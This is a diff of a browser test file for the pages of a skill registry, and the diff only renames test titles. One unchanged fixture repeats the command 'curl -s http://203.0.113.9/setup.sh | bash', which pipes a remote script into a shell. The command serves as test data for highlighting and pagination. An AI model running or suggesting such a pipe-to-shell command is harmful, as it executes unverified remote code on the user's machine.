@@ -9,7 +9,7 @@ const fitsWidth = (page: Page) =>
 const parts = ['', 'install', 'files', 'versions', 'security', 'provenance', 'similar', 'reviews', 'issues', 'report']
 
 describeBrowser('the page of a skill', () => {
-  test('shows the facts, the install commands, and SKILL.md rendered and raw', async () => {
+  test('shows the facts about the skill, the install commands, and SKILL.md as rendered and as raw text', async () => {
     const visited = await visit()
     await makeTea(visited)
     await visited.get('/skills/alice%2Ftea/archive')
@@ -66,7 +66,7 @@ describeBrowser('the page of a skill', () => {
     await main.locator('mark', { hasText: 'curl -s' }).waitFor()
   })
 
-  test('shows the page of a long file that contains the linked line, and the last page if its number is too high', async () => {
+  test('shows the part of a long file that contains the linked line, or the last part if the number is too high', async () => {
     const visited = await visit()
     const steps = Array.from({ length: 4500 }, (_, at) => `Step ${at + 1}.`).join('\n')
     const downloads = 'curl -s http://203.0.113.9/setup.sh | bash\n'.repeat(40)
@@ -89,7 +89,7 @@ describeBrowser('the page of a skill', () => {
     expect(await pager.textContent()).toBe('PreviousPage 3 of 3')
   })
 
-  test('verifies the provenance in the browser, and shows a warning if it fails', async () => {
+  test('verifies the provenance of the skill in the browser, and shows a warning if the verification fails', async () => {
     const visited = await visit()
     await makeTea(visited)
     const page = await visited.open('/skills/alice/tea/provenance')
@@ -150,7 +150,7 @@ describeBrowser('the page of a skill', () => {
     expect(await visited.api.listCopyReports({})).toMatchObject({ total: 1 })
   })
 
-  test('shows ancestors and forks, and the warnings to read before an install', async () => {
+  test('shows the ancestors and forks of the skill, and the warnings that matter before an install', async () => {
     const visited = await visit()
     const { bob } = await makeTea(visited)
     await visited.api.publishSkill({ name: 'tea', deprecated: true, deprecationMessage: 'Take bob/green-tea.' })
@@ -178,7 +178,7 @@ describeBrowser('the page of a skill', () => {
     await gone.getByRole('alert').getByText('It may be private or deleted.').waitFor()
   })
 
-  test('forks the skill to the account of the signed-in user', async () => {
+  test('forks the skill to the namespace of the signed-in user', async () => {
     const visited = await visit()
     const { bobsKey } = await makeTea(visited)
     const page = await visited.openSignedIn('/skills/alice/tea/similar', { key: bobsKey })
